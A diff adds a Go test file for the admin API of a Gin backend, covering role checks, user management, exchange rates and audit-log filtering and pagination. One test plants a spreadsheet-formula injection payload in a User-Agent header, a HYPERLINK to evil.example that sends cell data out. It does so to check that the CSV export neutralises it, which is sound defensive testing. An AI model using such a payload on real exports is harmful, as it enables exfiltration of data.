@@ -0,0 +1,423 @@
+package handlers_test
+
+import (
+	"backend-gin/models"
+	"backend-gin/repository"
+	"backend-gin/utils"
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"testing"
+	"time"
+)
+
+func TestAdminRoutesForbiddenForUser(t *testing.T) {
+	app := newTestApp(t)
+	user := app.createUser("budi", "user", "active")
+	token := app.token(user)
+
+	for _, route := range []struct{ method, path string }{
+		{http.MethodGet, "/api/admin/users"},
+		{http.MethodPost, "/api/admin/users"},
+		{http.MethodDelete, fmt.Sprintf("/api/admin/users/%d", user.ID)},
+		{http.MethodGet, "/api/admin/users/trash"},
+		{http.MethodGet, "/api/admin/payments"},
+		{http.MethodGet, "/api/admin/audit"},
+		{http.MethodPost, "/api/admin/exchange-rates"},
+	} {
+		res := app.do(route.method, route.path, token, nil)
+		if res.Status != http.StatusForbidden || res.Code() != utils.CodeForbidden {
+			t.Errorf("%s %s: status %d code %q, mau 403 %s", route.method, route.path, res.Status, res.Code(), utils.CodeForbidden)
+		}
+	}
+}
+
+func TestAdminCreateAndListUsers(t *testing.T) {
+	app := newTestApp(t)
+	admin := app.createUser("owner", "admin", "active")
+	token := app.token(admin)
+
+	res := app.do(http.MethodPost, "/api/admin/users", token, map[string]interface{}{
+		"username": "budi", "password": testPassword, "telegram_id": 12345,
+	})
+	expectStatus(t, res, http.StatusOK)
+
+	created, err := app.repos.Users.FindByUsername("budi")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if created.Status != "active" || created.Role != "user" {
+		t.Fatalf("user buatan admin: status %q role %q, mau active/user", created.Status, created.Role)
+	}
+
+	// Username sudah dipakai
+	res = app.do(http.MethodPost, "/api/admin/users", token, map[string]interface{}{"username": "budi", "password": testPassword})
+	expectError(t, res, http.StatusConflict, utils.CodeProfileConflict)
+
+	res = app.do(http.MethodGet, "/api/admin/users", token, nil)
+	expectStatus(t, res, http.StatusOK)
+	if got := len(res.Body["data"].([]interface{})); got != 2 {
+		t.Fatalf("jumlah user = %d, mau 2", got)
+	}
+
+	// Aksi admin tercatat di audit log
+	logs, _, err := app.repos.AuditLogs.List(repository.AuditFilter{Action: "admin.user.create"}, 1, 10)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(logs) != 1 || logs[0].ActorUsername != "owner" || logs[0].TargetID != fmt.Sprint(created.ID) {
+		t.Fatalf("audit admin.user.create = %+v", logs)
+	}
+}
+
+func TestAdminUserStats(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	user := app.createUser("budi", "user", "trial")
+
+	now := time.Now()
+	app.createTransaction(user, "income", 200000, "Gaji", now)
+	app.createTransaction(user, "expense", 50000, "Makan", now)
+	// Bulan lalu tidak dihitung
+	app.createTransaction(user, "expense", 99000, "Makan", time.Date(now.Year(), now.Month(), 1, 0, 0, 0, 0, now.Location()).AddDate(0, 0, -1))
+
+	res := app.do(http.MethodGet, fmt.Sprintf("/api/admin/users/%d/stats", user.ID), token, nil)
+	expectStatus(t, res, http.StatusOK)
+	stats := res.Body["stats"].(map[string]interface{})
+	if stats["income_this_month"] != float64(200000) || stats["expense_this_month"] != float64(50000) || stats["balance"] != float64(150000) {
+		t.Fatalf("stats = %v", stats)
+	}
+
+	res = app.do(http.MethodGet, "/api/admin/users/9999/stats", token, nil)
+	expectError(t, res, http.StatusNotFound, utils.CodeUserNotFound)
+}
+
+func TestAdminUpdateUserStatus(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	user := app.createUser("budi", "user", "trial")
+	path := fmt.Sprintf("/api/admin/users/%d/status", user.ID)
+
+	// Kurangi hari sampai expired: status otomatis suspended
+	res := app.do(http.MethodPatch, path, token, map[string]interface{}{"add_trial_days": -2})
+	expectStatus(t, res, http.StatusOK)
+	if result := res.Body["result"].(map[string]interface{}); result["new_status"] != "suspended" {
+		t.Fatalf("new_status = %v, mau suspended", result["new_status"])
+	}
+
+	// Tambah hari lagi: suspended jadi trial
+	res = app.do(http.MethodPatch, path, token, map[string]interface{}{"add_trial_days": 7})
+	expectStatus(t, res, http.StatusOK)
+	if result := res.Body["result"].(map[string]interface{}); result["new_status"] != "trial" {
+		t.Fatalf("new_status = %v, mau trial", result["new_status"])
+	}
+
+	saved, err := app.repos.Users.FindByID(user.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if saved.Status != "trial" || saved.TrialEndsAt.Before(time.Now().Add(6*24*time.Hour)) {
+		t.Fatalf("user tersimpan: status %q trial_ends_at %v", saved.Status, saved.TrialEndsAt)
+	}
+}
+
+func TestAdminUpdateUserPasswordInvalidatesSessions(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	user := app.createUser("budi", "user", "trial")
+	userToken := app.token(user)
+
+	res := app.do(http.MethodPut, fmt.Sprintf("/api/admin/users/%d", user.ID), token, map[string]string{"password": "PasswordBaru456"})
+	expectStatus(t, res, http.StatusOK)
+
+	res = app.do(http.MethodGet, "/api/user/settings", userToken, nil)
+	expectError(t, res, http.StatusUnauthorized, utils.CodeSessionExpired)
+}
+
+func TestAdminDeleteAndRestoreUser(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	user := app.createUser("budi", "user", "trial")
+
+	now := time.Now()
+	app.createTransaction(user, "income", 100000, "Gaji", now)
+	selfDeleted := app.createTransaction(user, "expense", 5000, "Makan", now)
+	if _, err := app.repos.Transactions.Delete(user.ID, selfDeleted.ID); err != nil {
+		t.Fatal(err)
+	}
+	// Pastikan waktu hapus user berbeda dengan transaksi yang dihapus sendiri
+	time.Sleep(10 * time.Millisecond)
+
+	res := app.do(http.MethodDelete, fmt.Sprintf("/api/admin/users/%d", user.ID), token, nil)
+	expectStatus(t, res, http.StatusOK)
+
+	if _, err := app.repos.Users.FindByID(user.ID); err == nil {
+		t.Fatal("user terhapus masih bisa ditemukan")
+	}
+
+	res = app.do(http.MethodGet, "/api/admin/users/trash", token, nil)
+	expectStatus(t, res, http.StatusOK)
+	if got := len(res.Body["data"].([]interface{})); got != 1 {
+		t.Fatalf("isi tong sampah user = %d, mau 1", got)
+	}
+
+	res = app.do(http.MethodPost, fmt.Sprintf("/api/admin/users/%d/restore", user.ID), token, nil)
+	expectStatus(t, res, http.StatusOK)
+
+	// Hanya transaksi yang terhapus bersama akun yang kembali
+	var active, trashed int64
+	app.db.Model(&models.Transaction{}).Where("user_id = ?", user.ID).Count(&active)
+	app.db.Unscoped().Model(&models.Transaction{}).Where("user_id = ? AND deleted_at IS NOT NULL", user.ID).Count(&trashed)
+	if active != 1 || trashed != 1 {
+		t.Fatalf("setelah restore: %d aktif, %d di tong sampah, mau 1 dan 1", active, trashed)
+	}
+
+	// Sudah tidak di tong sampah
+	res = app.do(http.MethodPost, fmt.Sprintf("/api/admin/users/%d/restore", user.ID), token, nil)
+	expectError(t, res, http.StatusNotFound, utils.CodeUserNotFound)
+}
+
+func TestAdminDeletePaymentLog(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	user := app.createUser("budi", "user", "pending")
+
+	log := &models.PaymentLog{UserID: user.ID, Username: user.Username, ImagePath: t.TempDir() + "/bukti.jpg", DetectedBank: "MANUAL_CHECK", CreatedAt: time.Now()}
+	if err := app.repos.PaymentLogs.Create(log); err != nil {
+		t.Fatal(err)
+	}
+
+	res := app.do(http.MethodGet, "/api/admin/payments", token, nil)
+	expectStatus(t, res, http.StatusOK)
+	if got := len(res.Body["data"].([]interface{})); got != 1 {
+		t.Fatalf("jumlah bukti pembayaran = %d, mau 1", got)
+	}
+
+	res = app.do(http.MethodDelete, fmt.Sprintf("/api/admin/payments/%d", log.ID), token, nil)
+	expectStatus(t, res, http.StatusOK)
+
+	res = app.do(http.MethodDelete, fmt.Sprintf("/api/admin/payments/%d", log.ID), token, nil)
+	expectError(t, res, http.StatusNotFound, utils.CodePaymentNotFound)
+}
+
+func TestAdminExchangeRates(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+
+	rate := map[string]string{"base_currency": "usd", "quote_currency": "IDR", "rate": "16250", "effective_date": "2025-11-01"}
+	res := app.do(http.MethodPost, "/api/admin/exchange-rates", token, rate)
+	expectStatus(t, res, http.StatusOK)
+
+	// Pasangan + tanggal sama ditimpa, bukan ditambah
+	rate["rate"] = "16300.5"
+	res = app.do(http.MethodPost, "/api/admin/exchange-rates", token, rate)
+	expectStatus(t, res, http.StatusOK)
+
+	res = app.do(http.MethodGet, "/api/admin/exchange-rates", token, nil)
+	expectStatus(t, res, http.StatusOK)
+	rows := res.Body["data"].([]interface{})
+	if len(rows) != 1 {
+		t.Fatalf("jumlah kurs = %d, mau 1", len(rows))
+	}
+	saved := rows[0].(map[string]interface{})
+	if saved["base_currency"] != "USD" || saved["rate"] != "16300.5" {
+		t.Fatalf("kurs = %v", saved)
+	}
+
+	for field, value := range map[string]string{"rate": "-1", "quote_currency": "USD", "effective_date": "01-11-2025"} {
+		bad := map[string]string{"base_currency": "USD", "quote_currency": "IDR", "rate": "16250"}
+		bad[field] = value
+		res = app.do(http.MethodPost, "/api/admin/exchange-rates", token, bad)
+		if res.Status != http.StatusBadRequest {
+			t.Errorf("%s=%q: status %d, mau 400", field, value, res.Status)
+		}
+	}
+
+	path := fmt.Sprintf("/api/admin/exchange-rates/%d", int(saved["id"].(float64)))
+	res = app.do(http.MethodDelete, path, token, nil)
+	expectStatus(t, res, http.StatusOK)
+	res = app.do(http.MethodDelete, path, token, nil)
+	expectError(t, res, http.StatusNotFound, utils.CodeRateNotFound)
+
+	logs, _, err := app.repos.AuditLogs.List(repository.AuditFilter{TargetType: "exchange_rate"}, 1, 10)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(logs) != 3 {
+		t.Fatalf("audit kurs = %d, mau 3 (2 simpan + 1 hapus)", len(logs))
+	}
+}
+
+func TestAdminAuditCSVEscapesFormulas(t *testing.T) {
+	app := newTestApp(t)
+	token := app.token(app.createUser("owner", "admin", "active"))
+	app.createUser("budi", "user", "active")
+
+	// User agent dari request login ditulis apa adanya ke audit log
+	agent := `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`
+	raw, _ := json.Marshal(map[string]string{"username": "budi", "password": testPassword})
+	req := httptest.NewRequest(http.MethodPost, "/login", bytes.NewReader(raw))
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("User-Agent", agent)
+	expectStatus(t, app.send(req, ""), http.StatusOK)
+
+	res := app.do(http.MethodGet, "/api/admin/audit?format=csv&action=auth.login", token, nil)
+	expectStatus(t, res, http.StatusOK)
+	records, err := csv.NewReader(bytes.NewReader(res.Raw)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(records) != 2 {
+		t.Fatalf("baris CSV = %q", records)
+	}
+	if got := records[1][12]; got != "'"+agent {
+		t.Fatalf("user_agent = %q, mau diawali '", got)
+	}
+}
+
+// auditIDs: ID entri audit di response list, sesuai urutan
+func auditIDs(t *testing.T, res testResponse) []uint {
+	t.Helper()
+	expectStatus(t, res, http.StatusOK)
+	data, _ := res.Body["data"].([]interface{})
+	ids := make([]uint, 0, len(data))
+	for _, item := range data {
+		ids = append(ids, uint(item.(map[string]interface{})["id"].(float64)))
+	}
+	return ids
+}
+
+func TestAdminAuditListFilters(t *testing.T) {
+	app := newTestApp(t)
+	owner := app.createUser("owner", "admin", "active")
+	budi := app.createUser("budi", "user", "active")
+	sari := app.createUser("sari", "user", "active")
+	token := app.token(owner)
+
+	// Tanggal filter tanpa jam dibaca di zona waktu admin (default).
+	// Disimpan dalam waktu lokal server, sama seperti time.Now() di writeAudit.
+	loc := utils.UserLocation("")
+	at := func(day, hour, minute int) time.Time { return time.Date(2026, 3, day, hour, minute, 0, 0, loc).Local() }
+	record := func(actor *models.User, action, targetType, targetID string, createdAt time.Time) uint {
+		t.Helper()
+		entry := models.AuditLog{Action: action, TargetType: targetType, TargetID: targetID, CreatedAt: createdAt}
+		if actor != nil {
+			entry.ActorID, entry.ActorUsername, entry.ActorRole = &actor.ID, actor.Username, actor.Role
+		}
+		if err := app.repos.AuditLogs.Create(&entry); err != nil {
+			t.Fatal(err)
+		}
+		return entry.ID
+	}
+	update := record(owner, "admin.user.update", "user", fmt.Sprint(budi.ID), at(1, 8, 0))
+	budiLogin := record(budi, "auth.login", "user", fmt.Sprint(budi.ID), at(1, 23, 30))
+	sariLogin := record(sari, "auth.login", "user", fmt.Sprint(sari.ID), at(2, 0, 15))
+	failed := record(nil, "auth.login_failed", "user", "", at(3, 10, 0))
+	rate := record(owner, "admin.exchange_rate.save", "exchange_rate", "USD", at(5, 9, 0))
+
+	cases := []struct {
+		query string
+		want  []uint
+	}{
+		{"", []uint{rate, failed, sariLogin, budiLogin, update}}, // terbaru dulu
+		{fmt.Sprintf("actor_id=%d", budi.ID), []uint{budiLogin}},
+		{fmt.Sprintf("actor_id=%d", owner.ID), []uint{rate, update}},
+		{"action=auth.login", []uint{sariLogin, budiLogin}},
+		{"action=auth.logout", []uint{}},
+		{"target_type=exchange_rate", []uint{rate}},
+		{fmt.Sprintf("target_type=user&target_id=%d", budi.ID), []uint{budiLogin, update}},
+		{"from=2026-03-02", []uint{rate, failed, sariLogin}},
+		{"to=2026-03-01", []uint{budiLogin, update}}, // sampai akhir hari
+		{"from=2026-03-01&to=2026-03-02", []uint{sariLogin, budiLogin, update}},
+		// RFC3339: from inklusif, to eksklusif
+		{"from=" + url.QueryEscape(at(1, 23, 30).Format(time.RFC3339)) + "&to=" + url.QueryEscape(at(2, 0, 15).Format(time.RFC3339)), []uint{budiLogin}},
+		{"action=auth.login&from=2026-03-02", []uint{sariLogin}},
+		{fmt.Sprintf("actor_id=%d&action=auth.login&to=2026-03-01", sari.ID), []uint{}},
+	}
+	for _, tc := range cases {
+		got := auditIDs(t, app.do(http.MethodGet, "/api/admin/audit?"+tc.query, token, nil))
+		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
+			t.Errorf("?%s: id %v, mau %v", tc.query, got, tc.want)
+		}
+	}
+
+	for _, query := range []string{"actor_id=budi", "from=kemarin", "to=2026-13-01"} {
+		res := app.do(http.MethodGet, "/api/admin/audit?"+query, token, nil)
+		expectError(t, res, http.StatusBadRequest, utils.CodeInvalidInput)
+	}
+}
+
+func TestAdminAuditListPagination(t *testing.T) {
+	app := newTestApp(t)
+	owner := app.createUser("owner", "admin", "active")
+	token := app.token(owner)
+
+	start := time.Now().Add(-time.Hour)
+	var ids []uint
+	for i := 0; i < 5; i++ {
+		entry := models.AuditLog{Action: "auth.login", TargetType: "user", CreatedAt: start.Add(time.Duration(i) * time.Minute)}
+		if err := app.repos.AuditLogs.Create(&entry); err != nil {
+			t.Fatal(err)
+		}
+		ids = append([]uint{entry.ID}, ids...) // terbaru dulu
+	}
+
+	pages := [][]uint{ids[0:2], ids[2:4], ids[4:5], {}}
+	for i, want := range pages {
+		res := app.do(http.MethodGet, fmt.Sprintf("/api/admin/audit?limit=2&page=%d", i+1), token, nil)
+		if got := auditIDs(t, res); fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Errorf("halaman %d: id %v, mau %v", i+1, got, want)
+		}
+		meta := res.Body["meta"].(map[string]interface{})
+		if meta["current_page"] != float64(i+1) || meta["limit"] != float64(2) || meta["total_data"] != float64(5) || meta["total_pages"] != float64(3) {
+			t.Errorf("halaman %d: meta %v", i+1, meta)
+		}
+	}
+
+	// Nilai di luar batas dirapikan: page minimal 1, limit 1..200
+	for query, want := range map[string][2]float64{
+		"page=0&limit=0": {1, 50},
+		"page=-3":        {1, 50},
+		"limit=1000":     {1, 200},
+		"page=x&limit=y": {1, 50},
+		"page=2&limit=4": {2, 4},
+	} {
+		res := app.do(http.MethodGet, "/api/admin/audit?"+query, token, nil)
+		expectStatus(t, res, http.StatusOK)
+		meta := res.Body["meta"].(map[string]interface{})
+		if meta["current_page"] != want[0] || meta["limit"] != want[1] {
+			t.Errorf("?%s: page %v limit %v, mau %v", query, meta["current_page"], meta["limit"], want)
+		}
+	}
+}
+
+func TestAdminAuditListForbidden(t *testing.T) {
+	app := newTestApp(t)
+	owner := app.createUser("owner", "admin", "active")
+	user := app.createUser("budi", "user", "active")
+	entry := models.AuditLog{ActorID: &owner.ID, ActorUsername: "owner", Action: "admin.user.update", CreatedAt: time.Now()}
+	if err := app.repos.AuditLogs.Create(&entry); err != nil {
+		t.Fatal(err)
+	}
+
+	// User biasa tidak bisa membaca audit log, dengan filter atau export sekalipun
+	token := app.token(user)
+	for _, query := range []string{"", fmt.Sprintf("?actor_id=%d", owner.ID), "?format=csv", "?limit=200&page=1"} {
+		res := app.do(http.MethodGet, "/api/admin/audit"+query, token, nil)
+		expectError(t, res, http.StatusForbidden, utils.CodeForbidden)
+		if res.Body["data"] != nil {
+			t.Errorf("%s: data bocor %v", query, res.Body["data"])
+		}
+	}
+	expectError(t, app.do(http.MethodGet, "/api/admin/audit", "", nil), http.StatusUnauthorized, utils.CodeTokenRequired)
+
+	// Percobaan export yang ditolak tidak tercatat sebagai export
+	logs, _, err := app.repos.AuditLogs.List(repository.AuditFilter{Action: "admin.audit.export"}, 1, 10)
+	if err != nil || len(logs) != 0 {
+		t.Fatalf("audit export = %+v, %v", logs, err)
+	}
+}